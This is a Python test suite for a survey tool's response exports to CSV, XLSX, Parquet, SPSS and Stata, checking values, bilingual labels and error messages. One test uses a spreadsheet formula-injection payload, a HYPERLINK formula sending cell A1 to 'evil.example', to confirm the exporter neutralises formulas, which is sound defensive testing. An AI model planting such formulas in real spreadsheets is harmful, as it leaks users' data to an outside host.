"""Response exports read back: the stored responses of ``patentreach survey demo``'s store, in
CSV, XLSX, Parquet, SPSS and Stata, equal what ``load_responses`` returns; the SPSS/Stata labels
are the XLSForm's own (English and Chinese); spreadsheet formulas are neutralised."""

from __future__ import annotations

from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pyreadstat
import pytest

from patentreach.survey.codebook import codebook
from patentreach.survey.demo import survey_demo
from patentreach.survey.exports import ExportError, write_responses
from patentreach.survey.instrument.form import load_form
from patentreach.survey.store import load_responses, open_store

FORMS = ("holder", "patent")
LANGUAGES = {"en": "English (en)", "zh": "Chinese (zh)"}


@pytest.fixture(scope="module")
def demo_store(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    """The demo (a small frame, so it runs in seconds) and its stored responses per form."""
    out = tmp_path_factory.mktemp("exports-demo")
    demo = survey_demo(out, seed=7, frame_size=6_000, sample_size=1_500)
    engine = open_store(demo.files["store"])
    loaded = {name: load_responses(engine, name) for name in FORMS}
    engine.dispose()
    return {"demo": demo, "data": loaded, "out": out}


class Written(dict):
    """``written[form, language, format]``: the export, written on first use (each once)."""

    def __init__(self, demo_store: dict[str, object], folder: Path) -> None:
        super().__init__()
        self.demo_store, self.folder = demo_store, folder

    def __missing__(self, key: tuple[str, str, str]) -> Path:
        name, lang, fmt = key
        data = self.demo_store["data"][name]  # type: ignore[index]
        self[key] = write_responses(data, load_form(name), self.folder / f"{name}-{lang}.{fmt}", lang)
        return self[key]


@pytest.fixture(scope="module")
def written(demo_store, tmp_path_factory: pytest.TempPathFactory) -> Written:  # type: ignore[no-untyped-def]
    return Written(demo_store, tmp_path_factory.mktemp("exports"))


def test_the_store_holds_the_demos_accepted_rows(demo_store) -> None:  # type: ignore[no-untyped-def]
    demo = demo_store["demo"]
    assert len(demo_store["data"]["holder"]) == len(demo.enterprise_import.accepted) == 1247
    assert len(demo_store["data"]["patent"]) == len(demo.patent_import.accepted) == 3379


def _expected_code(form, field, value):  # type: ignore[no-untyped-def]
    """The code a choice should get: its 1-based position on the choices sheet (computed here
    from the form, not from the exporter)."""
    if value is pd.NA or value is None:
        return np.nan
    return float([c.name for c in form.choices[field.list_name]].index(value) + 1)


@pytest.mark.parametrize("name", FORMS)
@pytest.mark.parametrize("fmt", ["sav", "dta"])
@pytest.mark.parametrize("lang", list(LANGUAGES))
def test_spss_and_stata_files_have_the_forms_labels_and_the_stored_values(demo_store, written, name, fmt, lang):  # type: ignore[no-untyped-def]
    form = load_form(name)
    data = demo_store["data"][name]
    reader = pyreadstat.read_sav if fmt == "sav" else pyreadstat.read_dta
    frame, meta = reader(written[name, lang, fmt])
    assert len(frame) == len(data)
    labels = meta.column_names_to_labels
    key = LANGUAGES[lang]
    export_names = codebook(form).set_index("name")["export_name"].to_dict()
    for field in form.answers:
        label = field.label(lang)  # a repeat's column: "Export market 2: ..."
        assert labels[field.name] == (label if len(label) <= 80 else label[:79] + "…"), field.name
        stored = data[field.name]
        if field.type == "select_one":
            choices = form.choices[field.list_name]
            assert meta.variable_value_labels[field.name] == {i + 1: c.labels[key] for i, c in enumerate(choices)}
            expected = [_expected_code(form, field, v) for v in stored]
            np.testing.assert_array_equal(frame[field.name].to_numpy(dtype=float), np.array(expected, dtype=float))
        elif field.type in ("integer", "decimal"):
            np.testing.assert_allclose(frame[field.name].to_numpy(dtype=float),
                                       stored.astype("Float64").to_numpy(dtype=float, na_value=np.nan),
                                       rtol=0, atol=0, equal_nan=True)
        else:
            assert frame[field.name].tolist() == stored.fillna("").tolist(), field.name
        if field.type == "select_multiple":
            for choice in form.choices[field.list_name]:
                column = f"{field.name}__{choice.name}"
                exported = frame[export_names[column]]
                chosen = [np.nan if v is pd.NA else float(choice.name in v.split()) for v in stored]
                np.testing.assert_array_equal(exported.to_numpy(dtype=float), np.array(chosen, dtype=float))
    assert meta.number_rows == len(data)


def test_long_names_and_labels_fit_stata(written) -> None:  # type: ignore[no-untyped-def]
    frame, meta = pyreadstat.read_dta(written["holder", "en", "dta"])
    assert max(len(c) for c in frame.columns) <= 32
    assert "difficulty_response__self_in" in frame.columns  # difficulty_response__self_innovation, cut to 28
    assert meta.column_names_to_labels["difficulty_response__self_in"] == \
        "How did you respond?: Increased investment in own innovation (R&D)"
    assert all(len(label) <= 80 for label in meta.column_labels if label)
    assert meta.column_names_to_labels["tech_import_difficulty"] == \
        "In the last three years, was it difficult to license or acquire technology from…"
    assert meta.variable_value_labels["difficulty_response__self_in"] == {0: "No", 1: "Yes"}
    assert frame.columns[:2].tolist() == ["import_id", "source_row"]


def test_csv_xlsx_and_parquet_hold_the_stored_rows(demo_store, written) -> None:  # type: ignore[no-untyped-def]
    for name in FORMS:
        data = demo_store["data"][name]
        csv = pd.read_csv(written[name, "en", "csv"], dtype=str, keep_default_na=False)
        assert len(csv) == len(data)
        assert csv["enterprise_id"].tolist() == data["enterprise_id"].tolist()
        parquet = pq.read_table(written[name, "en", "parquet"])
        back = parquet.to_pandas()
        for field in load_form(name).answers:
            assert back[field.name].astype(object).where(back[field.name].notna(), None).tolist() == \
                data[field.name].astype(object).where(data[field.name].notna(), None).tolist(), field.name
        first = load_form(name).answers[2]  # sector / patent_type: a select_one
        meta = parquet.schema.field(first.name).metadata
        assert meta[b"label"].decode() == first.labels["English (en)"]
        assert meta[b"type"].decode() == first.type + (f" {first.list_name}" if first.list_name else "")
        zh = pq.read_table(written[name, "zh", "parquet"]).schema.field("enterprise_id").metadata
        assert zh[b"label"].decode() == "企业编号"
    book = openpyxl.load_workbook(written["patent", "en", "xlsx"], read_only=True)
    rows = list(book["responses"].iter_rows(values_only=True))
    assert len(rows) == 1 + len(demo_store["data"]["patent"])
    assert rows[1][:4] == (int(demo_store["data"]["patent"]["_import_id"].iloc[0]),
                           int(demo_store["data"]["patent"]["_row"].iloc[0]),
                           demo_store["data"]["patent"]["enterprise_id"].iloc[0],
                           demo_store["data"]["patent"]["patent_id"].iloc[0])


def test_formula_cells_are_neutralised_in_csv_and_xlsx(demo_store, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    data = demo_store["data"]["holder"].head(3).copy()
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    data.loc[data.index[0], "difficulty_response_other"] = attack
    data.loc[data.index[1], "difficulty_response_other"] = "-12"  # a plain number stays as typed
    form = load_form("holder")
    csv = pd.read_csv(write_responses(data, form, tmp_path / "x.csv"), dtype=str, keep_default_na=False)
    assert csv["difficulty_response_other"].tolist()[:2] == ["'" + attack, "-12"]
    sheet = openpyxl.load_workbook(write_responses(data, form, tmp_path / "x.xlsx"))["responses"]
    column = [c.value for c in sheet[1]].index("difficulty_response_other") + 1
    assert sheet.cell(2, column).value == "'" + attack and sheet.cell(2, column).data_type == "s"
    # SPSS and Stata do not evaluate cells: the text is kept as typed there (Chinese text too)
    data.loc[data.index[2], "difficulty_response_other"] = "与高校合作研发"
    for fmt, reader in (("dta", pyreadstat.read_dta), ("sav", pyreadstat.read_sav)):
        frame, _ = reader(write_responses(data, form, tmp_path / f"x.{fmt}"))
        assert frame["difficulty_response_other"].tolist() == [attack, "-12", "与高校合作研发"]


def test_an_empty_store_exports_the_columns_only(tmp_path: Path) -> None:
    engine = open_store(tmp_path / "empty.sqlite")
    form = load_form("patent")
    data = load_responses(engine, form)
    for fmt in ("csv", "xlsx", "parquet", "sav", "dta"):
        path = write_responses(data, form, tmp_path / f"empty.{fmt}")
        assert path.stat().st_size > 0
    frame, meta = pyreadstat.read_sav(tmp_path / "empty.sav")
    assert len(frame) == 0 and meta.column_names_to_labels["patent_id"] == "Patent publication number"
    assert len(pd.read_csv(tmp_path / "empty.csv").columns) == len(codebook(form))


def test_bad_requests_are_one_line(demo_store, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    form = load_form("holder")
    data = demo_store["data"]["holder"].head(2).copy()
    with pytest.raises(ExportError, match=r"x\.txt: cannot tell the format from the extension; use one of \.csv"):
        write_responses(data, form, tmp_path / "x.txt")
    with pytest.raises(ExportError, match=r"the folder .*nowhere does not exist"):
        write_responses(data, form, tmp_path / "nowhere" / "x.sav")
    data.loc[data.index[1], "size"] = "gigantic"  # stored under another version of the form
    row = int(data["_row"].iloc[1])
    with pytest.raises(ExportError, match=rf"form patentreach_enterprise_holder, record {row}, field size: "
                                          r"'gigantic' is not a choice of the form \(large, medium, small, micro\)"):
        write_responses(data, form, tmp_path / "x.dta")
